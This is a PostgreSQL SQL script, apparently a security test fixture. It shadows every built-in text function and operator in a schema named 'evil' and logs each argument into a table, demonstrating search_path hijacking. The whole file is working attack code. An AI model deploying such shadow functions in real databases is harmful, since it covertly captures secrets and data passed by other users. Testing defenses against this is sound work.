-- SPDX-License-Identifier: Apache-2.0
-- What somebody with a schema of their own can do: every function and operator of PostgreSQL that takes a text, again under the same name in
-- schema evil, writing down what it is given. Runs as that somebody.
CREATE TABLE evil.log (what text, given text);
CREATE FUNCTION evil.take(what text, given text) RETURNS void LANGUAGE sql AS 'INSERT INTO evil.log VALUES ($1, $2)';
DO $$
DECLARE
    one record;
BEGIN
    FOR one IN SELECT p.oid, p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, p.prorettype::regtype AS result, p.pronargs,
                      array_position(p.proargtypes::oid[], 'text'::regtype::oid) + 1 AS at,
                      (SELECT string_agg('$' || n, ', ' ORDER BY n) FROM generate_series(1, p.pronargs) n) AS list
               FROM pg_proc p JOIN pg_type t ON t.oid = p.prorettype
               WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.provariadic = 0 AND t.typtype = 'b'
                 AND 'text'::regtype = ANY (p.proargtypes::oid[]) AND p.proargmodes IS NULL
                 AND NOT EXISTS (SELECT FROM unnest(p.proargtypes::oid[]) a JOIN pg_type x ON x.oid = a WHERE x.typtype <> 'b') LOOP
        EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS $f$ BEGIN
                        PERFORM evil.take(%L, $%s::pg_catalog.text);
                        RETURN pg_catalog.%I(%s); END $f$', one.proname,
                       (SELECT string_agg(format_type(a, NULL), ', ' ORDER BY n) FROM pg_proc p, unnest(p.proargtypes::oid[]) WITH ORDINALITY u (a, n)
                           WHERE p.oid = one.oid),
                       one.result, one.proname, one.at, one.proname, one.list);
    END LOOP;
    FOR one IN SELECT o.oprname, o.oprleft::regtype AS l, o.oprright::regtype AS r, o.oprresult::regtype AS result FROM pg_operator o
               WHERE o.oprleft IN ('text'::regtype, 'date'::regtype, 'name'::regtype) AND o.oprright IN ('text'::regtype, 'date'::regtype, 'name'::regtype) LOOP
        EXECUTE format('CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS $f$ BEGIN
                        PERFORM evil.take(%L, $1::pg_catalog.text || $2::pg_catalog.text);
                        RETURN $1 OPERATOR(pg_catalog.%s) $2; END $f$', 'operator ' || one.oprname, one.l, one.r, one.result, one.oprname, one.oprname);
        EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)', one.oprname, one.l, one.r, 'operator ' || one.oprname);
    END LOOP;
END $$;
